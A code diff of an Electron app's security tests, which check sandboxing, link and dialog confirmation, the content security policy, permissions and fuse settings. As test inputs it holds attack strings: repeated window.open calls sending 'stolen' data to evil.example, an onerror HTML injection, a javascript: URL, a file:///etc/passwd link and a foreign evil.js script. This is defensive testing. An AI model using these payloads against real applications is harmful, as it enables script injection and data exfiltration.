@@ -1,44 +1,35 @@
 import { join } from 'node:path'
-import { afterAll, beforeAll, expect, inject, test } from 'vitest'
+import { expect, inject, test } from 'vitest'
 import { packedProgram, root } from '../build/runtime.ts'
-import { type App, createProfile, type Profile } from './app.ts'
-import { output } from './desk.ts'
+import { openApp } from './app.ts'
 import { openConsole } from './steps.ts'
+import { output } from './testDesktop.ts'
 
 const server = inject('server')
-let profile: Profile
-let app: App
 
-beforeAll(async () => {
-  profile = await createProfile(inject('desk'))
-  app = await profile.launch()
-  await openConsole(app.page, server)
-  // What leaves the app is noted instead of starting a browser.
-  await app.electron.evaluate(({ dialog, shell }) => {
-    const left: string[] = []
-    const questions: string[] = []
-    Object.assign(globalThis, { left, questions, answer: Promise.resolve(0) })
-    shell.openExternal = async (url) => void left.push(url)
-    // Native dialogs cannot be driven; what a person would click can be given.
-    dialog.showMessageBox = async (...given: unknown[]) => {
-      questions.push((given.at(-1) as Electron.MessageBoxOptions).message)
-      const response = await (globalThis as unknown as { answer: Promise<number> }).answer
+const app = openApp(async ({ electron, page }) => {
+  await openConsole(page, server)
+  // Records links and dialogs instead of opening a browser.
+  await electron.evaluate(({ dialog, shell }) => {
+    const opened: string[] = []
+    const dialogs: string[] = []
+    Object.assign(globalThis, { opened, dialogs, dialogAnswer: Promise.resolve(0) })
+    shell.openExternal = async (url) => void opened.push(url)
+    dialog.showMessageBox = async (...args: unknown[]) => {
+      dialogs.push((args.at(-1) as Electron.MessageBoxOptions).message)
+      const response = await (globalThis as unknown as { dialogAnswer: Promise<number> }).dialogAnswer
       return { response, checkboxChecked: false }
     }
   })
 })
-afterAll(async () => {
-  await app.close()
-  await profile.remove()
-})
 
-const leftForBrowser = () =>
-  app.electron.evaluate(() => (globalThis as unknown as { left: string[] }).left.splice(0))
+const openedLinks = () =>
+  app.electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened.splice(0))
 
-const questions = () =>
-  app.electron.evaluate(() => (globalThis as unknown as { questions: string[] }).questions.splice(0))
+const shownDialogs = () =>
+  app.electron.evaluate(() => (globalThis as unknown as { dialogs: string[] }).dialogs.splice(0))
 
-test('the page has nothing of Node', async () => {
+test('the page has no Node or Electron globals, and the window is sandboxed and isolated', async () => {
   const seen = await app.page.evaluate(() =>
     ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter(
       (name) => name in globalThis,
@@ -74,46 +65,45 @@ test('the page cannot navigate to another origin', async () => {
   expect(await app.page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
     'SMS Lead Management Dashboard',
   )
-  expect(await leftForBrowser()).toEqual(['https://example.com/'])
-  expect(await questions()).toEqual(['Open example.com in your browser?'])
+  expect(await openedLinks()).toEqual(['https://example.com/'])
+  expect(await shownDialogs()).toEqual(['Open example.com in your browser?'])
 })
 
-test('links go to the system browser, and only encrypted ones', async () => {
+test('only https links open in the system browser', async () => {
   const windows = await app.page.evaluate((insecure) => {
-    const opened = [
+    const urls = [
       'https://example.com/help',
       insecure,
       'file:///etc/passwd',
       'javascript:alert(1)',
       'https://a:b@example.com/',
     ]
-    return opened.map((url) => window.open(url) === null)
+    return urls.map((url) => window.open(url) === null)
   }, server)
   expect(windows).toEqual([true, true, true, true, true])
-  expect(await leftForBrowser()).toEqual(['https://example.com/help'])
-  expect(await questions()).toEqual(['Open example.com in your browser?'])
+  expect(await openedLinks()).toEqual(['https://example.com/help'])
+  expect(await shownDialogs()).toEqual(['Open example.com in your browser?'])
   expect(app.electron.windows()).toHaveLength(1)
 })
 
-test('a script of the page cannot carry anything out through the browser without a person’s yes', async () => {
+test('a script cannot open links without the user’s confirmation, which is asked one at a time', async () => {
   await app.electron.evaluate(() => {
-    const answer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
-    Object.assign(globalThis, { answer })
+    const dialogAnswer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
+    Object.assign(globalThis, { dialogAnswer })
   })
   await app.page.evaluate(() => {
     for (let n = 0; n < 50; n++) window.open(`https://evil.example/?stolen=${n}`)
   })
   await app.electron.evaluate(() => (globalThis as unknown as { cancel(): void }).cancel())
-  expect(await leftForBrowser()).toEqual([])
-  // One at a time, never fifty windows with questions.
-  expect(await questions()).toEqual(['Open evil.example in your browser?'])
+  expect(await openedLinks()).toEqual([])
+  expect(await shownDialogs()).toEqual(['Open evil.example in your browser?'])
 })
 
-test('the policy blocks text made into elements or code, inline script, foreign script, frames and foreign requests', async () => {
+test('the content security policy blocks HTML and code from text, inline and foreign scripts, frames and requests', async () => {
   const blocked = await app.page.evaluate(async (foreign) => {
     const violations: string[] = []
     document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
-    const refused = (attempt: () => void) => {
+    const isBlocked = (attempt: () => void) => {
       try {
         attempt()
         return false
@@ -123,7 +113,7 @@ test('the policy blocks text made into elements or code, inline script, foreign 
     }
     const script = document.createElement('script')
     const button = document.createElement('button')
-    const written = [
+    const blockedWrites = [
       () => (document.createElement('p').innerHTML = '<img src=x onerror="hacked = true">'),
       () => document.body.insertAdjacentHTML('beforeend', '<p>'),
       () => document.write('<p>'),
@@ -131,42 +121,42 @@ test('the policy blocks text made into elements or code, inline script, foreign 
       () => script.append('window.hacked = true'),
       () => (script.src = `${foreign}/evil.js`),
       () => button.setAttribute('onclick', 'window.hacked = true'),
-    ].map(refused)
+    ].map(isBlocked)
     const module = Object.assign(document.createElement('link'), { rel: 'modulepreload' })
     module.href = `${foreign}/evil.js`
     document.head.append(module)
     const frame = document.createElement('iframe')
     frame.src = foreign
     document.body.append(frame)
-    // In a task of its own: what the test's own inspector starts may evaluate.
+    // In a new task, because code run by the inspector may evaluate strings.
     const evaluated = await new Promise((resolve) =>
       setTimeout(() => {
         try {
           resolve(new Function('return 1')())
         } catch {
-          resolve('refused')
+          resolve('blocked')
         }
       }),
     )
     const fetched = await fetch(`${foreign}/healthz`).then(
-      () => 'let through',
-      () => 'refused',
+      () => 'allowed',
+      () => 'blocked',
     )
     await new Promise((resolve) => setTimeout(resolve, 200))
     frame.remove()
     return {
       hacked: 'hacked' in window,
       evaluated,
-      written,
+      blockedWrites,
       fetched,
       violations: [...new Set(violations)].sort(),
     }
   }, server)
   expect(blocked).toEqual({
     hacked: false,
-    evaluated: 'refused',
-    written: [true, true, true, true, true, true, true],
-    fetched: 'refused',
+    evaluated: 'blocked',
+    blockedWrites: [true, true, true, true, true, true, true],
+    fetched: 'blocked',
     violations: ['connect-src', 'frame-src', 'require-trusted-types-for', 'script-src-elem'],
   })
 })
@@ -183,16 +173,16 @@ test('permissions are denied', async () => {
   expect(states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied'])
   const media = await app.page.evaluate(() =>
     navigator.mediaDevices.getUserMedia({ audio: true }).then(
-      () => 'given',
+      () => 'allowed',
       (error) => error.name,
     ),
   )
-  expect(media).not.toBe('given')
+  expect(media).not.toBe('allowed')
 })
 
-test('the program cannot be used as Node, and only runs its own archive', async () => {
-  const reader = join(root, 'node_modules/.bin/electron-fuses')
-  const wire = await output(reader, ['read', '--app', packedProgram()], { PATH: process.env.PATH ?? '' })
+test('the fuses disable Node options and allow only the app’s archive', async () => {
+  const fuses = join(root, 'node_modules/.bin/electron-fuses')
+  const states = await output(fuses, ['read', '--app', packedProgram()], { PATH: process.env.PATH ?? '' })
   for (const fuse of [
     'RunAsNode is Disabled',
     'EnableNodeOptionsEnvironmentVariable is Disabled',
@@ -200,11 +190,11 @@ test('the program cannot be used as Node, and only runs its own archive', async 
     'EnableEmbeddedAsarIntegrityValidation is Enabled',
     'OnlyLoadAppFromAsar is Enabled',
   ]) {
-    expect(wire).toContain(fuse)
+    expect(states).toContain(fuse)
   }
 })
 
-test('nothing went wrong in the console on the way', () => {
+test('the console shows no unexpected errors', () => {
   const expected =
     /Content Security Policy|Failed to load resource|ERR_BLOCKED|Not allowed to load local resource|Refused to|violates|navigate|requires 'Trusted/
   expect(app.complaints.filter((line) => !expected.test(line))).toEqual([])
